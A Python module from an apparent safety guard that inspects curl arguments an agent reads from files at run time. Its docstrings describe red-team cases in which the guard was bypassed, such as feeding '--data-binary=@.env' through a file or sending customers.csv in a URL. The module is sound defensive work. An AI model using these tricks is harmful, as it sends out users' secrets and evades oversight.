"""A network program's words read from a file when it runs: the file's text, read at review time, judged as them.

rt51 left curl given ONE word only known when it runs unasked (``read -r o < opt.txt; curl -s "$o" URL`` with the
file holding ``--data-binary=@.env``, ``-Kargs.txt`` or ``--config=args.txt``; ``o=$(cat opt.txt)``, ``mapfile``, a
``while read`` loop), and an address whose value splits after a literal start (``http://h/$r``), because the honest
twin (``while read u; do curl -sI "$u"; done < urls.txt``) has the same shape (rt52: each posted .env, approved).
The walk (``safety.shellparse``) notes where such a name's value comes from (``_Walker.sources``): a file a
``read``/``mapfile`` reads, ``$(cat FILE)``/``$(<FILE)``, ``for w in $(cat FILE)``, or a number (``$?``). Here the
guard reads that file as it reads a script a command runs, and judges curl with each value its text can give the
word; a file it cannot read (outside the workspace, written earlier on the same line, changed by a job an earlier
step left running, too big, not a regular file) makes the word unknown: asked. A file that does not exist gives the
loop nothing to run, and a ``read``/``mapfile`` leaves the name as it was.
"""

from __future__ import annotations

import itertools
import os
import re
import shlex
from typing import TYPE_CHECKING, Any

from macrohard.safety import lazyre

if TYPE_CHECKING:
    from macrohard.safety.commands import Analyzer
    from macrohard.safety.shellparse import SimpleCommand, _Walker

MAX_TEXT = 64_000  # bytes of a file the guard reads for a word's values; a larger one is unknown
MAX_VALUES = 64  # values a word may take (lines times words); more is unknown
# one expansion of a name, or of an element or all elements of an array
_REF = lazyre.compile(r"\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)(\[(?:\d+|[@*])\])?\})")
_NUMBERS = frozenset({"$?", "$#", "$$", "$!", "${?}", "${#}", "${$}", "${!}"})  # always a number
_CAT = lazyre.compile(r'"?\$\(\s*(?:cat\s+(?:--\s+)?|<\s*)([\w./@+-]+)\s*\)"?')
_ONE_LINE = lazyre.compile(r'"?\$\(\s*(head|tail)\s+(?:-n\s*1|-1)\s+([\w./@+-]+)\s*\)"?')  # its first or last line
_NUMBER_VALUE = lazyre.compile(r'"?(?:\$[?#$!]|\$\{[?#$!]\}|\$\(\([^()$`]*\)\)|\d+)"?')

Source = tuple[str, str, "str | None"]  # (kind, file, the value before: a read that reads nothing leaves it)


def assigned(w: _Walker, name: str, value_text: str | None) -> None:
    """``NAME=VALUE``: where the name's value now comes from (``$(cat F)``, ``$(<F)``, a number), or nowhere known."""
    w.sources.pop(name, None)
    if value_text is None:
        return
    if (m := _CAT.fullmatch(value_text)) is not None:
        w.sources[name] = ("text", m.group(1), None)
    elif (m := _ONE_LINE.fullmatch(value_text)) is not None:
        w.sources[name] = (m.group(1), m.group(2), None)  # its first or last line, empty if it does not exist
    elif _NUMBER_VALUE.fullmatch(value_text):
        w.sources[name] = ("number", "", None)


def looped(w: _Walker, name: str, values: list[Any]) -> None:
    """``for NAME in $(cat F)``: each word of F's text."""
    w.sources.pop(name, None)
    if len(values) == 1 and values[0].type == "command_substitution" and \
            (m := _CAT.fullmatch(w.text(values[0]))) is not None:
        w.sources[name] = ("words", m.group(1), None)


def read_into(w: _Walker, cmd: SimpleCommand, names: list[str], kind: str | None) -> None:
    """``read NAME < F`` (``kind`` "line"), ``read -a NAME < F`` ("words"), ``mapfile NAME < F`` ("lines"), and a
    ``read`` that is a ``while`` loop's condition over ``done < F`` ("loop"): the names' values come from F; the names
    bash sets are no longer the values the walk knew. ``kind`` None: what they get is not read here (``read a b``,
    ``read -n 3``, ``mapfile -s 1``)."""
    path = None
    if not [op for op, _ in cmd.redirects if op.startswith("<")] and not cmd.heredoc and w.loop_input[0]:
        path = w.loop_input[0]
        # a loop's condition reads the next line each pass; a read's own `< F` (also in a loop's body) the file's
        # first line every time (rt53: it was judged with every line, so a later line's option refused it)
        kind = ("loop" if w.loop_input[1] else "first") if kind == "line" else kind
    for name in names:
        prior = w.vars.get(name)
        w.sources.pop(name, None)
        if kind is not None and path is not None and not re.search(r"[$`*?\[]", path):
            w.sources[name] = (kind, path, prior)


def loop_done(w: _Walker, path: str | None) -> None:
    """After ``while read o; do …; done < F``: ``o`` is what the last read gave it, or, where F does not exist and
    the loop never ran, the value before (a ``read`` of F's, no longer a loop's)."""
    for name, (kind, source, prior) in list(w.sources.items()):
        if kind == "loop" and source == path:
            w.sources[name] = ("line", source, prior)


def loop_input(w: _Walker, node: Any) -> tuple[str | None, bool]:
    """The file ``< F`` gives a redirected statement's stdin (a ``while``/``until`` loop's ``done < F``: its
    condition's ``read``; a ``read``'s or ``mapfile``'s own ``< F``, which the walk adds to the command after it), and
    whether it is a loop's."""
    body = node.child_by_field_name("body")
    if body is None or body.type not in ("while_statement", "until_statement", "command"):
        return None, False
    for child in node.children:
        if child.type == "file_redirect" and (dest := child.child_by_field_name("destination")) is not None and \
                (w.text(child).lstrip().startswith("<") and not w.text(child).lstrip().startswith(("<&", "<>"))) and \
                dest.type == "word":
            return w.text(dest), body.type != "command"
    return None, False


def word_sources(w: _Walker, node: Any, nested: set[str]) -> dict[str, tuple[str, str, str | None, bool]] | None:
    """Each expansion in an argument (its text -> kind, file, value before, quoted) when every one comes from a file
    or is a number; None otherwise (or when it runs a command)."""
    from macrohard.safety.shellparse import _walk

    if any(not p.startswith("$(") and p not in ("cat", "head", "tail") for p in nested):  # `o=$(cat F)`: "$o" too
        return None
    out: dict[str, tuple[str, str, str | None, bool]] = {}
    for k in _walk(node):
        if k.type == "command_substitution":
            return None
        if k.type not in ("simple_expansion", "expansion"):
            continue
        raw = w.text(k)
        quoted = k.parent is not None and k.parent.type == "string"
        if raw in _NUMBERS:
            out[raw] = ("number", "", None, quoted)
            continue
        m = _REF.fullmatch(raw)
        name = m and (m.group(1) or m.group(2))
        if not name or name not in w.sources or name in w.vars:
            return None
        kind, path, prior = w.sources[name]
        if m.group(3) and kind not in ("lines", "linewords"):  # `${o[1]}` of a scalar: nothing known
            return None
        out[raw] = (kind + (m.group(3) if m.group(3) in ("[@]", "[*]") else ""), path, prior, quoted)
    return out or None


def _text(an: Analyzer, path: str, cwd: str | None) -> tuple[str | None, str]:
    """(the file's text, "") when the guard can read it as it will be when the command runs; (None, "absent") when it
    does not exist and nothing may write it first; else (None, why it cannot be read)."""
    from macrohard.safety import native

    if cwd and ("$" in cwd or "`" in cwd) and not path.startswith("/"):
        return None, "in a folder only known when it runs"
    ap = an.paths.resolve(path, cwd)
    if ap in an.written:
        text = an.written[ap]
        return (text, "") if text is not None else (None, "written earlier on this line with text the guard cannot read")
    if an.unmodelled_writes or an.unknown_writes or any(v is None and any(c in k for c in "*?[") for k, v in
                                                        an.written.items()):
        return None, "code earlier on this line may write it"
    if an.jobs:
        return None, f"{an.jobs} process(es) an earlier step left running may change it after this review"
    if not any(ap.startswith(ws + "/") for ws in an.paths.workspaces):
        return None, "outside the workspace"
    if not os.path.lexists(ap):
        return None, "absent"
    if os.path.isdir(ap) or not os.path.isfile(ap):
        return None, "not a regular file"
    data = native.read(ap)
    if data is None or len(data) > MAX_TEXT:
        return None, f"larger than {MAX_TEXT // 1000} kB" if data is not None else "not readable"
    if b"\0" in data:
        return None, "it holds NUL bytes"
    return data.decode("utf-8", "surrogateescape"), ""


def text_at(an: Analyzer, path: str, cwd: str | None) -> tuple[str | None, str]:
    """A file's text as the command will read it (``_text``), for other readers of a file's words (wget's ``-i``)."""
    return _text(an, path, cwd)


def _values(kind: str, text: str, prior: str | None) -> list[list[str]] | None:
    """The values (each a list of elements) a name takes from its file's ``text``: every line for a ``read`` (its
    first line is among them; with and without read's backslash removal), one for ``$(cat F)``."""
    lines = text.split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    if kind.startswith("text"):
        return [[text.rstrip("\n")]]
    if kind.startswith("words"):
        return [[w] for w in text.split()][:MAX_VALUES + 1]
    if kind in ("head", "tail") and lines:  # rt53: `$(head -n1 F)` was judged with every line of F (asked or refused
        return [[(lines[0] if kind == "head" else lines[-1]).rstrip("\n")]]  # for an option on line 2)
    if kind == "first":  # `read NAME < F`: its first line, joined to the next ones where `read` without -r would
        joined = []  # (a line that ends in a backslash); each line up to there and their join are judged
        for line in lines:
            joined.append(line)
            if not line.endswith("\\"):
                break
        lines = [*joined, "".join(line[:-1] for line in joined[:-1]) + joined[-1]] if joined else [""]
    if kind.startswith("linewords"):  # `read -a`: a line's words
        return [line.split() for line in lines] if kind.endswith(("[@]", "[*]")) else \
            [[w] for line in lines for w in line.split()][:MAX_VALUES + 1]
    if kind.endswith(("[@]", "[*]")):  # every line at once, as the array's elements
        return [lines]
    out = []
    for line in lines[:MAX_VALUES]:
        for v in {line, line.strip(" \t"), re.sub(r"\\(.)", r"\1", line).strip(" \t")}:
            out.append([v])
    return out if len(lines) <= MAX_VALUES else None


def judge(an: Analyzer, prog: str, args: list[str], cmd: SimpleCommand, depth: int) -> set[str]:
    """``curl … "$o" …`` where the walk knows ``o`` comes from a file: judge curl with each value the file's text gives
    the word (split where it is unquoted), or ask when the file cannot be read. The words judged here."""
    done: set[str] = set()
    for i, word in enumerate(args):
        refs = cmd.from_files.get(word)
        if refs is None or word in done:
            continue
        choices: list[list[tuple[str, list[str], bool]]] = []
        for raw, (kind, path, prior, quoted) in refs.items():
            if kind == "number":
                choices.append([(raw, ["0"], quoted)])
                continue
            text, why = _text(an, path, cmd.cwd)
            if why == "absent":
                if kind.startswith(("loop", "text", "head", "tail", "words")):  # the loop never runs; $(cat F) is empty
                    values: list[list[str]] | None = [] if kind.startswith(("loop", "words")) else [[""]]
                else:  # read and mapfile leave the name as it was: the line's value, an earlier step's, or none
                    ref = _REF.fullmatch(raw)
                    name = ref.group(1) or ref.group(2) if ref is not None else ""
                    # an earlier step may have set it by another name (`declare -n r=o; r=…`): any name set
                    # before this line makes its value unknown
                    earlier = not name or bool(an.session_names) or bool(an.session_vars)
                    values = [[prior]] if prior is not None else None if earlier else [[""]]
                    why = "it does not exist, so the name keeps the value an earlier step gave it"
            else:
                values = _values(kind, text, prior) if text is not None else None
            if values is None:
                an.r.add("dynamic", f"{prog} gets {word[:40]} from {path[:60]}, which the guard cannot read as it "
                                    f"will be when it runs ({why or 'too many lines'}); its words may be options that "
                                    f"send a file; write the arguments on the line")
                done.add(word)
                break
            choices.append([(raw, v, quoted) for v in values])
        else:
            done.add(word)
            combos = list(itertools.islice(itertools.product(*choices), MAX_VALUES + 1))
            if len(combos) > MAX_VALUES:
                an.r.add("dynamic", f"{prog} gets {word[:40]}, which takes more values than the guard reads; write "
                                    "the arguments on the line")
                continue
            for combo in combos:
                an.line(shlex.join([prog, *args[:i], *_made(word, combo), *args[i + 1:]]), depth + 1, cmd.cwd)
    return done


def _made(word: str, combo: tuple[tuple[str, list[str], bool], ...]) -> list[str]:
    """The words bash makes of ``word`` with each expansion given its value: an unquoted value split on blanks, a
    quoted ``[@]`` one word an element."""
    marks = {f"\0{n}\0": part for n, part in enumerate(combo)}
    text = word
    for n, (raw, _, _) in enumerate(combo):
        text = text.replace(raw, f"\0{n}\0", 1)
    out: list[str] = [""]
    for piece in re.split(r"(\0\d+\0)", text):
        if piece not in marks:
            out[-1] += piece
            continue
        _, elements, quoted = marks[piece]
        pieces = elements if quoted else [p for e in elements for p in e.split()]
        if not pieces:
            continue
        out[-1] += pieces[0]
        out += pieces[1:]
    return [w for w in out if w or len(out) == 1]


def sent_data(an: Analyzer, word: str, cmd: SimpleCommand) -> str:
    """A word of a network program's address whose expansions are read from files (``cmd.from_files``), beside
    literal text (``http://h/$p``): the data file (``flows.DATA_KIND``, through a link too) whose text it would send,
    "" when none is one. rt53 left ``T=$(cat customers.csv); curl "http://h/$T"`` approved: the file's text was
    judged as if the agent had typed it, and went out in the request line; a path list the person wrote (rt52's twin
    ``read -r p < path.txt; curl -sI "http://h/$p"``) and a document's text (flow18's twins) are no data file."""
    from macrohard.safety.flows import names_data
    from macrohard.safety.shellvalues import data_file

    for kind, path, _, _ in (cmd.from_files.get(word) or {}).values():
        if kind == "number":
            continue
        where = an.paths.resolve(path, cmd.cwd)
        real = os.path.realpath(where)
        if names_data(path) or names_data(os.path.basename(real)) or data_file(an.values, where) or \
                data_file(an.values, real):
            return f"the text of {path[:60]}, a data file"
    return ""
